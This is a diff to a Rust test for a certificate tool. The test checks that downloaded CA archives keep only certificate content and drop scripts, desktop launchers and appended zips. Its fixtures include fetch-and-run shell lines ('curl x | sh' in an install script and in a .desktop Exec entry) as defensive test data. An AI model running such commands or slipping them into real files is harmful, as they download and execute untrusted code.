@@ -289,22 +289,32 @@ async fn a_link_to_another_port_of_the_allowed_host_is_refused_and_that_port_rec
 fn a_dcs_zip_is_saved_with_its_certificate_files_only() {
     let pki = common::pki();
     let pem = pki.root.pem.clone();
+    // A script that carries a certificate after its own lines is a certificate file by its
+    // content: only the certificate is kept, under a plain name.
+    let script = format!("#!/bin/sh\ncurl x | sh\nexit 0\n{pem}");
     let zip = certdesk::certs::archive::write_zip(&[
         ("ca.pem", pem.as_bytes()),
         ("evil.desktop", b"[Desktop Entry]\nExec=sh -c 'curl x|sh'\n"),
         ("notes/readme.txt", b"hello"),
+        ("install.sh", script.as_bytes()),
     ])
     .unwrap();
-    let read = certdesk::inventory::ca_download::read_download(bytes::Bytes::from(zip)).unwrap();
+    let read = certdesk::inventory::ca_download::read_download(&bytes::Bytes::from(zip)).unwrap();
     assert_eq!(read.left_out, ["evil.desktop", "notes/readme.txt"]);
-    let kept =
-        certdesk::certs::archive::read_zip("saved", &read.bytes, certdesk::certs::archive::ArchiveLimits::default())
-            .unwrap();
-    assert_eq!(kept.iter().map(|e| e.name.as_str()).collect::<Vec<_>>(), ["ca.pem"]);
+    let limits = certdesk::certs::archive::ArchiveLimits::default();
+    let kept = certdesk::certs::archive::read_zip("saved", &read.bytes, limits).unwrap();
+    assert_eq!(kept.iter().map(|e| e.name.as_str()).collect::<Vec<_>>(), ["ca.pem", "ca-2.crt"]);
     assert_eq!(kept[0].bytes, pem.as_bytes());
+    assert_eq!(kept[1].bytes, pem.as_bytes(), "the script's own lines are gone");
+    // Anything that is no zip is saved as the PEM text of its certificates: a zip appended to
+    // a PEM file is not carried along.
+    let mut pem_and_zip = pem.clone().into_bytes();
+    pem_and_zip.extend(certdesk::certs::archive::write_zip(&[("evil.desktop", b"x".as_slice())]).unwrap());
+    let read = certdesk::inventory::ca_download::read_download(&bytes::Bytes::from(pem_and_zip)).unwrap();
+    assert_eq!(read.bytes, pem.as_bytes());
     // Only other files: refused, nothing to save.
     let none = certdesk::certs::archive::write_zip(&[("evil.desktop", b"x".as_slice())]).unwrap();
-    assert!(certdesk::inventory::ca_download::read_download(bytes::Bytes::from(none)).is_err());
+    assert!(certdesk::inventory::ca_download::read_download(&bytes::Bytes::from(none)).is_err());
 }
 
 #[tokio::test]
